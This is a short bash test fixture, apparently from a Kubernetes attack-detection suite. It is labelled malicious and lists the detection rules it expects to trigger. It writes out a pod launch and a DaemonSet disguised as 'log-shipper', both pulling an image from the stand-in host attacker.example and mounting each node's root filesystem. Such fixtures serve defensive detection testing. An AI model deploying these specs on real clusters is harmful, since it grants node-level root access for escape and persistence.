# shellcheck shell=bash disable=SC2154
# what: pods that mount the node's file system.
# label: malicious
# expects: [host-root-mount]
# allows: [sensitive-mount-rw, socket-parent-mount, image-from-unknown-registry, pod-host-path-mounted, daemonset-created, cluster-resource-created]
develop() { intruder -n shop run debugger --image=attacker.example/tools:1 --overrides='{"spec":{"containers":[{"name":"debugger","image":"attacker.example/tools:1","command":["sleep","600"],"volumeMounts":[{"name":"n","mountPath":"/host"}]}],"volumes":[{"name":"n","hostPath":{"path":"/"}}]}}'; }
hold_out() {
    given <<'Y' | intruder create -f -
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: log-shipper, namespace: shop}
spec:
  selector: {matchLabels: {app: ls}}
  template:
    metadata: {labels: {app: ls}}
    spec:
      containers: [{name: ls, image: "attacker.example/tools:1", volumeMounts: [{name: node, mountPath: /rootfs}]}]
      volumes: [{name: node, hostPath: {path: /, type: Directory}}]
Y
}
